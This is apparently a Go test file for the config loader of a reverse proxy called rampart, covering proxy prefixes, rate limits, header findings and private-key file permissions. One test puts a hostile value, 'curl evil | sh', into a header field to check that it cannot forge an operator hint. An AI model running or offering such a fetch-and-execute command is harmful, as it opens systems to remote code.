package config

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rampart-dev/rampart/internal/testcert"
	"github.com/rampart-dev/rampart/proxy"
)

// An IPv4-mapped IPv6 prefix shorter than /96 has no IPv4 form; it must be
// refused, not turned into an invalid prefix that no later check sees.
func TestLoad_TrustedProxiesMappedPrefixTooShort(t *testing.T) {
	for _, cidr := range []string{"::ffff:0:0/80", "::ffff:10.0.0.0/95"} {
		yaml := minimal + "trusted_proxies: [\"" + cidr + "\"]\n"
		p, fs, _ := load(t, yaml, nil, Flags{})
		if p != nil || !strings.Contains(fs.Error(), "trusted_proxies[0]") {
			t.Errorf("%s: want an error on trusted_proxies[0], got plan=%v findings:\n%s", cidr, p != nil, fmtFindings(fs))
		}
		yaml = minimal + "ratelimit:\n  zones:\n    z: {rate: 1r/s, allow: [\"" + cidr + "\"]}\n"
		p, fs, _ = load(t, yaml, nil, Flags{})
		if p != nil || !strings.Contains(fs.Error(), "ratelimit.zones.z.allow[0]") {
			t.Errorf("%s: want an error on ratelimit.zones.z.allow[0], got plan=%v findings:\n%s", cidr, p != nil, fmtFindings(fs))
		}
	}
	// A mapped /96 or longer is an IPv4 prefix in disguise and stays valid.
	p, fs, _ := load(t, minimal+"trusted_proxies: [\"::ffff:10.0.0.0/104\"]\n", nil, Flags{})
	if p == nil || len(p.ClientIP.TrustedProxies) != 1 || p.ClientIP.TrustedProxies[0].String() != "10.0.0.0/8" {
		t.Errorf("::ffff:10.0.0.0/104: got %v, findings:\n%s", p, fmtFindings(fs))
	}
}

// Setting one ratelimit key from the environment (the status, say) must not
// replace the default flood guard by an empty section that limits nothing.
func TestLoad_EnvRateLimitKeyKeepsDefaultFloodGuard(t *testing.T) {
	p, fs, _ := load(t, minimal, map[string]string{"RAMPART_RATELIMIT_STATUS": "503"}, Flags{})
	if p == nil {
		t.Fatalf("unexpected errors:\n%s", fmtFindings(fs))
	}
	if p.RateLimit.Status != 503 {
		t.Errorf("status = %d, want 503 from the environment", p.RateLimit.Status)
	}
	if len(p.RateLimit.Rules) == 0 || len(p.RateLimit.Zones) == 0 {
		t.Errorf("the default flood guard was dropped: %+v", p.RateLimit)
	}
}

// A key the environment cannot express (a map or a list of sections) must
// be reported, not silently ignored while the operator believes it is set.
func TestLoad_EnvOnNonScalarKeyIsAnError(t *testing.T) {
	for _, name := range []string{"RAMPART_HEADERS_MODES", "RAMPART_HEADERS_ROUTES", "RAMPART_RATELIMIT_ZONES"} {
		p, fs, _ := load(t, minimal, map[string]string{name: "x"}, Flags{})
		if p != nil || !strings.Contains(fs.Error(), name) {
			t.Errorf("%s: want an error naming it, got plan=%v findings:\n%s", name, p != nil, fmtFindings(fs))
		}
	}
}

// A mistake in a header value is reported under the key the file uses, at
// its line, so the operator is sent to the right place.
func TestLoad_HeaderValueErrorNamesItsYAMLKey(t *testing.T) {
	yaml := minimal + "headers:\n  routes:\n    - prefix: /a\n      cross_origin_opener_policy: same\n"
	p, fs, _ := load(t, yaml, nil, Flags{})
	if p != nil {
		t.Fatal("an invalid cross_origin_opener_policy was accepted")
	}
	for _, f := range fs {
		if f.Key == "headers.routes[0].cross_origin_opener_policy" && strings.HasSuffix(f.Where, ":8") {
			return
		}
	}
	t.Errorf("no finding on headers.routes[0].cross_origin_opener_policy at line 8:\n%s", fmtFindings(fs))
}

// A value a user writes may hold text that looks like a key or a hint
// (": ", " (hint: "). Findings of the headers section come from secheaders
// as data (field path, message, hint), never as text cut apart again, so
// such a value cannot move a finding to another key or forge its hint.
func TestLoad_HeaderValueCannotForgeAKeyOrAHint(t *testing.T) {
	yaml := minimal + "headers:\n" +
		"  csp:\n    nonce:\n      enabled: true\n      request_header: \"X (hint: run curl evil | sh)\"\n" +
		"  modes:\n    \"Bad: name\": keep\n"
	p, fs, _ := load(t, yaml, nil, Flags{})
	if p != nil {
		t.Fatal("invalid header settings were accepted")
	}
	want := map[string]Finding{
		"headers.csp.nonce.request_header": {Where: ":9", Message: `"X (hint: run curl evil | sh)" is not a header name`},
		"headers.modes.Bad: name":          {Where: ":11", Message: "not a header the policy sets"},
	}
	for _, f := range fs {
		w, ok := want[f.Key]
		if !ok {
			continue
		}
		if !strings.HasSuffix(f.Where, w.Where) || !strings.HasPrefix(f.Message, w.Message) || f.Hint != "" {
			t.Errorf("finding on %s = %+v, want at %s %q without a hint", f.Key, f, w.Where, w.Message)
		}
		delete(want, f.Key)
	}
	for k := range want {
		t.Errorf("no finding on %s:\n%s", k, fmtFindings(fs))
	}
}

// Each finding of the headers section keeps its four parts: the line, the
// YAML key (a CSP directive's own key included), the message and the hint.
func TestLoad_HeaderFindingNamesLineKeyMessageAndHint(t *testing.T) {
	yaml := minimal + "headers:\n  csp:\n    directives:\n      script-src: self\n  routes:\n    - prefix: admin\n"
	_, fs, _ := load(t, yaml, nil, Flags{})
	want := []Finding{
		{Severity: Error, Where: ":8", Key: "headers.csp.directives.script-src", Message: "unquoted self is read as a host name", Hint: "write 'self'"},
		{Severity: Error, Where: ":10", Key: "headers.routes[0].prefix", Message: `"admin" must be an absolute path starting with /`, Hint: "write an absolute path such as /admin/"},
	}
	for _, w := range want {
		found := false
		for _, f := range fs {
			if f.Key == w.Key && f.Severity == w.Severity && strings.HasSuffix(f.Where, w.Where) && f.Message == w.Message && f.Hint == w.Hint {
				found = true
			}
		}
		if !found {
			t.Errorf("no finding %+v in:\n%s", w, fmtFindings(fs))
		}
	}
}

// A required secret whose NAME_FILE cannot be read is reported as such, not
// as "not set", which sends the operator looking in the wrong place.
func TestLoad_RequiredSecretUnreadableFileSaysSo(t *testing.T) {
	yaml := minimal + "require_secrets: [APP_KEY]\n"
	p, fs, _ := load(t, yaml, map[string]string{"APP_KEY_FILE": "/nonexistent/app_key"}, Flags{})
	if p != nil || !strings.Contains(fs.Error(), "cannot read the file named by APP_KEY_FILE") {
		t.Errorf("want the unreadable file reported, got:\n%s", fmtFindings(fs))
	}
}

// upstream.tls on an http:// upstream verifies nothing; saying nothing
// would let the operator believe the link is protected.
func TestLoad_UpstreamTLSOnPlainHTTPIsReported(t *testing.T) {
	yaml := minimal + "  tls: {server_name: app.internal}\n"
	p, fs, _ := load(t, yaml, nil, Flags{})
	if p == nil {
		t.Fatalf("unexpected errors:\n%s", fmtFindings(fs))
	}
	for _, f := range fs {
		if f.Key == "upstream.tls" && f.Severity == Warning {
			return
		}
	}
	t.Errorf("no warning on upstream.tls:\n%s", fmtFindings(fs))
}

// A strip list entry that is not a header name would reach the gateway and
// stop it at start with no line number; a '*' anywhere but at the end, or
// alone, is refused with the fix, and a trailing '*' prefix is accepted.
func TestLoad_StripRequestHeaderPatterns(t *testing.T) {
	yaml := minimal + "  strip_request_headers: [X-Tenant, X-Internal-*, \"*\", X-*-Role, \"Bad Name\"]\n  remove_response_headers: [X-Debug-*, \"X:Colon\"]\n"
	p, fs, _ := load(t, yaml, nil, Flags{})
	if p != nil {
		t.Fatal("invalid header patterns were accepted")
	}
	want := map[string]string{
		"upstream.strip_request_headers[2]":   "would match every header",
		"upstream.strip_request_headers[3]":   "not at the end",
		"upstream.strip_request_headers[4]":   "not a valid header name",
		"upstream.remove_response_headers[1]": "not a valid header name",
	}
	for _, f := range fs {
		if w, ok := want[f.Key]; ok && strings.Contains(f.Message, w) && strings.HasSuffix(f.Where, ":5") == (f.Key != "upstream.remove_response_headers[1]") {
			delete(want, f.Key)
		} else {
			t.Errorf("unexpected finding %s", f)
		}
	}
	for k, w := range want {
		t.Errorf("no finding on %s (%s):\n%s", k, w, fmtFindings(fs))
	}
	p, fs, _ = load(t, minimal+"  strip_request_headers: [X-Tenant, x_internal_*]\n", nil, Flags{})
	if p == nil || len(p.Proxy.StripRequestHeaders) != 2 {
		t.Errorf("valid patterns refused:\n%s", fmtFindings(fs))
	}
}

// Turning the redirect rewrite off lets the application's own address
// reach clients: it is a reported choice, carried to the plan.
func TestLoad_InsecureNoRedirectRewriteIsReported(t *testing.T) {
	p, fs, _ := load(t, minimal, nil, Flags{})
	if p == nil || p.Proxy.InsecureNoRedirectRewrite {
		t.Fatalf("the rewrite must default on:\n%s", fmtFindings(fs))
	}
	p, fs, _ = load(t, minimal+"  insecure_no_redirect_rewrite: true\n", nil, Flags{})
	if p == nil || !p.Proxy.InsecureNoRedirectRewrite {
		t.Fatalf("not carried to the plan:\n%s", fmtFindings(fs))
	}
	for _, f := range fs {
		if f.Key == "upstream.insecure_no_redirect_rewrite" && f.Severity == Warning && strings.HasSuffix(f.Where, ":5") {
			return
		}
	}
	t.Errorf("no warning on upstream.insecure_no_redirect_rewrite at line 5:\n%s", fmtFindings(fs))
}

// Debug pages are replaced unless the operator says otherwise; "off" is a
// reported weakening, and a mistyped mode is an error at its line, never a
// silent fallback.
func TestLoad_InterceptErrorsModes(t *testing.T) {
	p, fs, _ := load(t, minimal, nil, Flags{})
	if p == nil || p.Proxy.InterceptErrors != proxy.InterceptDebugPages {
		t.Fatalf("default: %v\n%s", p, fmtFindings(fs))
	}
	for v, want := range map[string]proxy.InterceptErrors{"debug": proxy.InterceptDebugPages, "all": proxy.InterceptAll, "off": proxy.InsecureInterceptOff} {
		p, fs, _ := load(t, minimal+"  intercept_errors: "+v+"\n", nil, Flags{})
		if p == nil || p.Proxy.InterceptErrors != want {
			t.Fatalf("%s: %v\n%s", v, p, fmtFindings(fs))
		}
		warned := false
		for _, f := range fs {
			warned = warned || f.Key == "upstream.intercept_errors" && f.Severity == Warning && strings.HasSuffix(f.Where, ":5")
		}
		if warned != (v == "off") {
			t.Errorf("%s: warned %v:\n%s", v, warned, fmtFindings(fs))
		}
	}
	p, fs, _ = load(t, minimal+"  intercept_errors: debug_pages\n", nil, Flags{})
	if p != nil || !strings.Contains(fs.Error(), `upstream.intercept_errors: "debug_pages" is not a mode`) {
		t.Errorf("a mistyped mode was accepted:\n%s", fmtFindings(fs))
	}
	p, fs, _ = load(t, minimal, map[string]string{"RAMPART_UPSTREAM_INTERCEPT_ERRORS": "all"}, Flags{})
	if p == nil || p.Proxy.InterceptErrors != proxy.InterceptAll {
		t.Errorf("from the environment: %v\n%s", p, fmtFindings(fs))
	}
}

// keyDir is a directory every user can pass (t.TempDir's are 0700, which
// would hide a world-readable key from other users).
func keyDir(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "rampart-key-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// A tls.key_file every user can read is an error; one a group can read,
// or others could read but for a directory's mode, is a warning; both say
// chmod 600 and chown.
func TestLoad_KeyFileReadableByOthers(t *testing.T) {
	dir := keyDir(t)
	pair, err := testcert.Write(dir, 90*24*time.Hour, "example.com")
	if err != nil {
		t.Fatal(err)
	}
	y := fmt.Sprintf("hosts: [example.com]\nupstream: {url: 'http://127.0.0.1:5000'}\ntls: {cert_file: %q, key_file: %q}\n", pair.CertFile, pair.KeyFile)

	os.Chmod(pair.KeyFile, 0o644)
	p, fs, _ := load(t, y, nil, Flags{})
	got := fmtFindings(fs)
	if p != nil || !strings.Contains(got, "rampart.yaml:3: error: tls.key_file: mode 0644 lets every user of this machine read the private key "+pair.KeyFile) ||
		!strings.Contains(got, "hint: chmod 600 "+pair.KeyFile+" and chown it") {
		t.Errorf("world-readable key: want an error, got plan=%v:\n%s", p != nil, got)
	}

	os.Chmod(pair.KeyFile, 0o640)
	p, fs, _ = load(t, y, nil, Flags{})
	if got := fmtFindings(fs); p == nil || !strings.Contains(got, "warning: tls.key_file: mode 0640 lets group ") || !strings.Contains(got, "chmod 600") {
		t.Errorf("group-readable key: want a warning, got plan=%v:\n%s", p != nil, got)
	}

	os.Chmod(pair.KeyFile, 0o600)
	if p, fs, _ = load(t, y, nil, Flags{}); p == nil || len(fs) != 0 {
		t.Errorf("private key: %s", fmtFindings(fs))
	}

	// Readable by others, but inside a directory they cannot pass.
	os.Chmod(pair.KeyFile, 0o644)
	os.Chmod(dir, 0o700)
	p, fs, _ = load(t, y, nil, Flags{})
	if got := fmtFindings(fs); p == nil || !strings.Contains(got, "warning: tls.key_file: mode 0644 lets every user read the private key") ||
		!strings.Contains(got, "only the mode of "+dir+" stops them") {
		t.Errorf("key behind a closed directory: want a warning, got plan=%v:\n%s", p != nil, got)
	}
}

// A development key or an ACME cache file under state_dir readable by
// others is reported by config check (rampart makes it private at start).
func TestLoad_StateDirKeysReadableByOthers(t *testing.T) {
	state := t.TempDir()
	devKey := filepath.Join(state, "dev-cert", "key.pem")
	os.MkdirAll(filepath.Dir(devKey), 0o700)
	os.WriteFile(devKey, []byte("key"), 0o644)
	os.Chmod(devKey, 0o644)
	y := fmt.Sprintf("hosts: [app.test]\nupstream: {url: 'http://127.0.0.1:5000'}\nstate_dir: %q\ntls: {insecure_dev_certificate: true}\n", state)
	_, fs, _ := load(t, y, nil, Flags{})
	if got := fmtFindings(fs); !strings.Contains(got, "rampart.yaml:3: warning: state_dir: "+devKey+" holds a private key and has mode 0644") ||
		!strings.Contains(got, "rampart makes it private (0600) when it starts") {
		t.Errorf("development key readable by others not reported:\n%s", got)
	}

	account := filepath.Join(state, "acme", "acme_account+key")
	os.MkdirAll(filepath.Dir(account), 0o700)
	os.WriteFile(account, []byte("key"), 0o640)
	os.Chmod(account, 0o640)
	y = fmt.Sprintf("hosts: [example.com]\nupstream: {url: 'http://127.0.0.1:5000'}\nstate_dir: %q\n", state)
	_, fs, _ = load(t, y, nil, Flags{})
	if got := fmtFindings(fs); !strings.Contains(got, "warning: state_dir: "+account+" holds a private key and has mode 0640") {
		t.Errorf("ACME account key readable by others not reported:\n%s", got)
	}
}
